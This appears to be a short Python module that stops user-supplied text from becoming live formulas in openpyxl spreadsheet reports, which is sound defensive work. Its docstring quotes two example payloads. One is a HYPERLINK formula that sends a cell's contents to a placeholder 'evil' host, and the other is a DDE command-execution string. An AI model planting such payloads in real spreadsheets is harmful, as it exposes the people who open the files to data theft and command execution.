"""Text from user data written as text, never as a live formula (issue 15).

openpyxl turns any string that starts with ``=`` into a formula; a project name such as
``=HYPERLINK("http://evil/?"&Inputs!C6)`` or the DDE payload ``=cmd|' /C calc'!A0`` would run
when the report is opened. Every writer puts user-derived text through :func:`put_text`.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import Cell


def put_text(cell: Cell, value: Any) -> Cell:
    """Assign ``value`` to ``cell``; a string is always stored as a string, never a formula."""
    cell.value = value
    if cell.data_type == "f":
        cell.data_type = "s"
    return cell
